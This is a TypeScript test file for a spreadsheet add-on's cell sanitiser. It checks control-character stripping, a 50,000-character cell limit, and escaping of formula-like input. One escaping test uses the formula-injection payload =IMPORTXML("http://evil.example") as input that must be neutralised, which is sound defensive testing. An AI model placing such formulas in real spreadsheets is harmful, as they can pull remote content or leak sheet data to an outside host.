/** Text from outside stays text: cleaned on its way in, guarded when it is put. */
import { cellValue, escapedValue, fitting, plainValue } from '../../../../src/addon/sheet/cells/cell-value';
import { TtError } from '../../../../src/core/errors';
import type { OutputCell } from '../../../../src/tools/declaration/declare';

const DAY = new Date(0);

test.each<[string, OutputCell, unknown]>([
  ['null', null, ''],
  ['text', 'DNa02', 'DNa02'],
  ['an id', '720575941234567890', '720575941234567890'],
  ['a number', 1.5, 1.5],
  ['zero', 0, 0],
  ['NaN', Number.NaN, ''],
  ['infinity', Number.POSITIVE_INFINITY, ''],
  ['false', false, false],
  ['a date', DAY, DAY],
  ['an error', new TtError('BUSY', 'wait'), '#TT BUSY: wait'],
  ['control characters', 'a\u0000b\u001bc\u007fd', 'abcd'],
  ['a carriage return', 'a\rb', 'ab'],
  ['tab and newline', 'a\tb\nc', 'a\tb\nc'],
  ['control characters before an equals sign', '\u0001=1+1', '=1+1'],
])('plain: %s', (_name, out, cell) => {
  expect(cellValue(out)).toEqual(cell);
});

test('a text that no cell holds is refused, not cut', () => {
  expect(cellValue('x'.repeat(50_000))).toBe('x'.repeat(50_000));
  expect(cellValue('x'.repeat(50_001))).toBe('#TT BIG: 50,001 characters; a cell holds 50,000');
  // Control characters go before it is measured.
  expect(cellValue(`\u0007${'x'.repeat(50_000)}`)).toBe('x'.repeat(50_000));
  expect(plainValue('x'.repeat(50_001))).toBe('x'.repeat(50_001));
  expect(fitting('x'.repeat(50_001), '. Use the sidebar')).toMatchObject({
    code: 'BIG',
    message: '50,001 characters; a cell holds 50,000. Use the sidebar',
  });
});

test.each([
  ['=IMPORTXML("http://evil.example")', '\'=IMPORTXML("http://evil.example")'],
  ['+1', "'+1"],
  ['720575941234567890', "'720575941234567890"],
  ["'quoted", "''quoted"],
  ['', ''],
  [12, 12],
  [true, true],
  [DAY, DAY],
])('typed: %p is put as %p', (value, put) => {
  expect(escapedValue(value)).toEqual(put);
});
